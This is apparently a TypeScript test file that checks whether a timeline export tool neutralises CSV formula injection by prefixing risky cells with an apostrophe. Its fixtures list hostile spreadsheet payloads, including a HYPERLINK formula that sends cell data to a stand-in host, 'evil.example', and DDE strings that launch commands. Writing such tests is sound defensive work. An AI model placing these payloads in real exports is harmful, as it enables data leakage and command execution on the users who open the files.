// CSV injection (OWASP): text a spreadsheet would run as a formula is written with a leading apostrophe in the CSV
// export; the JSON exports keep the raw value.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, toCsv } from '../../server/export/csv.ts';
import { toTimelineCsv } from '../../server/export/timeline-csv.ts';
import { toTimelineJS } from '../../server/documents/timelinejs.ts';
import { MINISTER, trickyData } from './fixtures/tricky-timeline.ts';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

describe('CSV formula neutralising', () => {
  it('prefixes every formula-starting cell with an apostrophe and leaves other text alone', () => {
    for (const f of FORMULAS) expect(neutraliseFormula(f)).toBe(`'${f}`);
    for (const plain of ['Mexico', ' =not first', 'a=b', '', '5 May 2025', "'already"])
      expect(neutraliseFormula(plain)).toBe(plain);
  });

  it('the CSV export writes them neutralised (after RFC 4180 quoting), numbers stay numbers', () => {
    const text = toCsv(
      ['text', 'n'],
      FORMULAS.map((f, i) => [f, i]),
    );
    const rows = parse(text, { columns: true, relax_quotes: false }) as Array<{ text: string; n: string }>;
    expect(rows.map((r) => r.text)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(rows.map((r) => r.n)).toEqual(FORMULAS.map((_, i) => String(i)));
  });

  it('a timeline whose names and quotes start a formula: neutralised in the CSV, raw in TimelineJS JSON', () => {
    const data = trickyData();
    const name = '=HYPERLINK("https://evil.example","x")';
    data.actors.set(MINISTER.id, { ...MINISTER, name });
    const [first, ...rest] = data.items;
    data.items = [{ ...first!, ...(first!.itemType === 'Event' ? { title: '+1+1' } : { text: '+1+1' }) }, ...rest];
    const rows = parse(toTimelineCsv(data), { columns: true }) as Array<Record<string, string>>;
    expect(rows.some((r) => r.actors === `'${name}`)).toBe(true);
    expect(rows.some((r) => r.title === "'+1+1")).toBe(true);
    for (const r of rows) for (const v of Object.values(r)) expect(v, v).not.toMatch(/^[=+\-@\t\r]/);
    const json = JSON.stringify(toTimelineJS(data));
    expect(json).toContain('+1+1');
    expect(json).not.toContain("'+1+1");
  });
});
